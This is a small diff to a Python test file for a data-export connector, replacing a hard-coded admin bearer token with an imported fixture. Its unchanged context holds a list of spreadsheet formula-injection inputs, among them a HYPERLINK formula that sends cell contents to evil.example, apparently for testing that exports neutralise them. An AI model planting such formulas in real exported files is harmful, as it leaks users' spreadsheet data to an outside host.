@@ -17,7 +17,7 @@ from sqlalchemy import func, select, update
 from connector.exports import COLUMNS
 from connector.models import Call, Score
 from connector.users import add_user
-from tests.conftest import console_login, csrf_token, summary
+from tests.conftest import ADMIN_TOKEN, console_login, csrf_token, summary
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HOSTILE = ["bell\u0007", "7900\u0001", HYPERLINK, "+1+2", "@SUM(1)", "-2+3", "\tx", "\rx"]
@@ -31,7 +31,7 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"-?\d+(\.\d+)?")
 
 PASSWORD = "correct horse battery"
-AUTH = {"Authorization": "Bearer test-admin-token"}
+AUTH = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
 
 
 @pytest.fixture
